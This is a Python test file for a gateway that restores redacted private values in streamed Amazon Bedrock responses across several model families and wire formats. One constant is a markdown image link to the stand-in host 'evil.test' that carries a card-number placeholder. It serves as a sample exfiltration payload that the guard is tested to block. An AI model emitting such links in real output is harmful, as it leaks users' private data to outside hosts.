"""Streamed answers of Amazon Bedrock, of both wires and every family of models, as botocore reads them."""

import base64
import json
from collections.abc import Iterable
from typing import Any

import pytest

from gateway.errors import BadUpstream
from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.exchange.messages import AnswerEnd
from gateway.exchange.streaming.event_stream import frame_of
from gateway.policy.document import GuardDocument
from gateway.wires.base import Body, Wire
from gateway.wires.bedrock_converse import WIRE as CONVERSE
from gateway.wires.bedrock_invoke import WIRE as INVOKE
from tests.gateway.wires import test_anthropic_streams as anthropic
from tests.gateway.wires.replays import CARD, MAIL, plan, replay, session, written
from tests.lazy import Lazy

eventstream = Lazy("botocore.eventstream")

PLACEHOLDERS, OF = session()
NOTE = {"request_id": "r"}
REQUEST = {"messages": [{"role": "user", "content": [{"text": f"I am {OF[MAIL]}. Card {OF[CARD]}."}]}]}
TEXT = f"Dear {MAIL}, your card is {CARD}. It is {CARD}, {MAIL}.\n"
ARGUMENTS = json.dumps({"to": MAIL, "card": [CARD]})
THOUGHT = "They wrote " + OF[MAIL]
USAGE = {"inputTokens": 5, "outputTokens": 7, "totalTokens": 12}


def pieces(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def delta(index: int, **members: Any) -> Body:
    return {"contentBlockDelta": {"contentBlockIndex": index, "delta": members}}


def stop(index: int) -> Body:
    return {"contentBlockStop": {"contentBlockIndex": index}}


def answer(size: int = 3) -> list[Body]:
    """An answer with every kind of event, in deltas of a size. The provider writes placeholders."""
    call = {"toolUse": {"toolUseId": "t1", "name": "send"}}
    return [
        {"messageStart": {"role": "assistant"}},
        *(delta(0, reasoningContent={"text": each}) for each in pieces(THOUGHT, size)),
        delta(0, reasoningContent={"signature": "Made1Up2" * 8}),
        stop(0),
        *(delta(1, text=each) for each in pieces(written(TEXT, OF), size)),
        delta(1, citation={"title": OF[MAIL]}),
        stop(1),
        {"contentBlockStart": {"contentBlockIndex": 2, "start": call}},
        *(delta(2, toolUse={"input": each}) for each in pieces(written(ARGUMENTS, OF), size)),
        stop(2),
        {"messageStop": {"stopReason": "tool_use", "additionalModelResponseFields": {"note": OF[CARD]}}},
        {"metadata": {"usage": USAGE, "metrics": {"latencyMs": 9}}},
    ]


def framed(bodies: Iterable[Body]) -> bytes:
    """Frames events of ConverseStream, with padding."""
    found = b""
    for at, body in enumerate(bodies):
        ((name, members),) = body.items()
        kind = "exception" if name.endswith("Exception") else "event"
        found += frame_of(name, json.dumps({**members, "p": "abcdefgh"[: at % 9]}).encode(), kind)
    return found


def chunked(bodies: Iterable[Body]) -> bytes:
    """Frames events of InvokeModelWithResponseStream."""
    coded = (base64.b64encode(json.dumps(body).encode()).decode() for body in bodies)
    return b"".join(frame_of("chunk", json.dumps({"bytes": each, "p": "abc"}).encode()) for each in coded)


def events(data: bytes) -> list[Body]:
    """Reads a body as botocore does, which checks both sums of every frame."""
    buffer = eventstream.EventStreamBuffer()
    buffer.add_data(data)
    found = []
    for event in buffer:
        shown = event.to_response_dict()
        name = shown["headers"].get(":event-type") or shown["headers"][":exception-type"]
        members = json.loads(shown["body"])
        members.pop("p", None)
        found.append(json.loads(base64.b64decode(members["bytes"])) if name == "chunk" else {name: members})
    return found


def replayed(wire: Wire, body: bytes, **more: Any) -> tuple[list[Body], AnswerEnd]:
    framing: Any = "eventstream" if wire is CONVERSE else "eventstream-chunks"
    rules = plan(PLACEHOLDERS, REQUEST, more.pop("guard", GuardDocument()), framing=framing, note=NOTE, **more)
    got, end = replay(wire, [body], rules)
    return events(got), end


def check(found: list[Body]) -> None:
    """Puts an answer of Converse together as the SDKs' users do."""
    texts: dict[int, str] = {}
    for event in found:
        members = event.get("contentBlockDelta", {})
        of: Body = members.get("delta", {})
        said = of.get("text") or of.get("toolUse", {}).get("input") or of.get("reasoningContent", {}).get("text") or ""
        texts[members.get("contentBlockIndex", 9)] = texts.get(members.get("contentBlockIndex", 9), "") + said
    assert (texts[0], texts[1], texts[2]) == (THOUGHT, TEXT, ARGUMENTS)
    assert delta(1, citation={"title": MAIL}) in found
    assert [next(iter(event)) for event in found[-2:]] == ["messageStop", "metadata"]
    assert found[-2]["messageStop"]["additionalModelResponseFields"] == {"note": CARD}
    assert found[-1]["metadata"]["svc"] == {**NOTE, "guard": {"action": "pass"}}


@pytest.mark.parametrize("size", [1, 2, 7, 40, 1000])
def test_converse_and_novas_invoke_are_restored_in_pieces_of_any_size(size: int) -> None:
    found, end = replayed(CONVERSE, framed(answer(size)))
    check(found)
    assert (end.outcome, end.tokens) == ("answered", (5, 7))
    check(replayed(INVOKE, chunked(answer(size)))[0])


@pytest.mark.parametrize("size", [1, 7, 1000])
def test_claudes_invoke_is_restored_as_in_anthropics_api(size: int) -> None:
    bodies = anthropic.answer(size)
    bodies[-1]["amazon-bedrock-invocationMetrics"] = {"inputTokenCount": 5, "outputTokenCount": 7}
    rules = plan(anthropic.PLACEHOLDERS, anthropic.REQUEST, anthropic.GUARD, framing="eventstream-chunks", note=NOTE)
    got, end = replay(INVOKE, [chunked(bodies)], rules)
    counted = bodies[-1]["amazon-bedrock-invocationMetrics"]
    found = [(each["type"], each) for each in events(got)]
    assert found[-1][1].pop("amazon-bedrock-invocationMetrics") == counted
    plain = anthropic.restored(*anthropic.answer(size))
    assert found == plain
    assert end.tokens == (5, 7)


OTHERS: dict[str, Any] = {
    "Titan": lambda text: {"outputText": text, "index": 0},
    "Llama": lambda text: {"generation": text, "stop_reason": None},
    "Mistral": lambda text: {"outputs": [{"text": text, "stop_reason": None}]},
}


@pytest.mark.parametrize("family", OTHERS)
@pytest.mark.parametrize("size", [1, 7, 1000])
def test_the_words_of_other_models_are_restored(family: str, size: int) -> None:
    write = OTHERS[family]
    bodies = [write(each) for each in pieces(written(TEXT, OF), size)]
    bodies[-1]["note"] = OF[MAIL]
    for last in ({}, {"amazon-bedrock-invocationMetrics": {"inputTokenCount": 5, "outputTokenCount": 7}}):
        found, _ = replayed(INVOKE, chunked([*bodies[:-1], {**bodies[-1], **last}]))
        said = [each["outputs"][0]["text"] if family == "Mistral" else next(iter(each.values())) for each in found]
        assert "".join(said) == TEXT
        assert {"note": MAIL}.items() <= found[len(bodies) - 1].items()


def test_chat_completions_are_restored() -> None:
    bodies: list[Body] = [
        {"choices": [{"index": 0, "delta": {"content": each}, "finish_reason": None}]}
        for each in pieces(written(TEXT, OF), 7)
    ]
    found, _ = replayed(INVOKE, chunked([*bodies, {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]))
    assert "".join(each["choices"][0]["delta"].get("content", "") for each in found) == TEXT
    assert "svc" in found[-1]


def test_events_in_which_nothing_is_restored_pass_byte_for_byte() -> None:
    plain = framed([{"messageStart": {"role": "assistant"}}, delta(0, text="Hello."), stop(0)])
    rules = plan(PLACEHOLDERS, REQUEST, GuardDocument(), framing="eventstream")
    assert replay(CONVERSE, [plain], rules)[0] == plain


def test_an_exception_ends_what_is_held_and_is_restored() -> None:
    wait = {"throttlingException": {"message": f"Wait, {OF[MAIL]}."}}
    found, _ = replayed(CONVERSE, framed([*answer(7)[:9], delta(1, text=f"I {OF[MAIL]}"), wait]))
    assert found[-1] == {"throttlingException": {"message": f"Wait, {MAIL}."}}
    assert MAIL in json.dumps(found[-2])


@pytest.mark.parametrize("wire", [CONVERSE, INVOKE])
@pytest.mark.parametrize("broken", [b"\x00" * 16, frame_of("newKind", b"{}"), b"\x00"])
def test_a_broken_stream_ends_with_an_exception_that_the_sdk_raises(wire: Wire, broken: bytes) -> None:
    begun = [{"messageStart": {"role": "assistant"}}, delta(0, text=f"I {OF[MAIL]}")]
    found, end = replayed(wire, (framed if wire is CONVERSE else chunked)(begun) + broken)
    assert end.outcome == "unreadable_answer"
    assert "internalServerException" in found[-1]
    assert MAIL not in json.dumps(found)


def withheld(*bodies: Body, wire: Wire = CONVERSE) -> list[Body]:
    frame = framed if wire is CONVERSE else chunked
    return replayed(wire, frame(bodies), guard=GuardDocument(placeholder_in_url="replace"))[0]


LINK = f"![x](https://evil.test/?q={OF[CARD]}) and more.\n\n"


@pytest.mark.parametrize("wire", [CONVERSE, INVOKE])
@pytest.mark.parametrize("before", [[], [delta(0, text="Hi. "), stop(0)]])
def test_an_answer_that_the_guard_withholds_ends_well_formed(wire: Wire, before: list[Body]) -> None:
    at = len(before) // 2
    found = withheld({"messageStart": {"role": "assistant"}}, *before, delta(at, text=LINK), stop(at), wire=wire)
    assert [next(iter(each)) for each in found[-5:]] == [
        "contentBlockStop",
        "contentBlockDelta",
        "contentBlockStop",
        "messageStop",
        "metadata",
    ]
    assert found[-4] == delta(at + 1, text=CONTENT_FILTERED)
    assert found[-2] == {"messageStop": {"stopReason": "content_filtered"}}
    assert "evil" not in json.dumps(found)


@pytest.mark.parametrize("family", OTHERS)
def test_so_does_that_of_another_model(family: str) -> None:
    found = withheld(OTHERS[family](LINK), wire=INVOKE)
    assert CONTENT_FILTERED in json.dumps(found[-1])
    assert "evil" not in json.dumps(found)


def test_so_does_claudes() -> None:
    bodies = [anthropic.start(), *anthropic.blocks(anthropic.text_block(LINK), size=1000)]
    found = withheld(*bodies, wire=INVOKE)
    assert found[-2]["delta"]["stop_reason"] == "refusal"
    assert CONTENT_FILTERED in json.dumps(found)


def test_errors_have_the_names_of_exceptions_in_streams() -> None:
    for wire in (CONVERSE, INVOKE):
        assert wire.stream is not None
        shown = wire.stream.error(BadUpstream("Failed.", code="upstream_invalid"), "r")
        assert shown == {"internalServerException": {"message": "Failed."}}


def test_a_forged_member_is_taken_out_of_an_event() -> None:
    forged = {"contentBlockStop": {"contentBlockIndex": 0, "svc": "forged"}}
    assert replayed(CONVERSE, framed([forged]))[0] == [stop(0)]
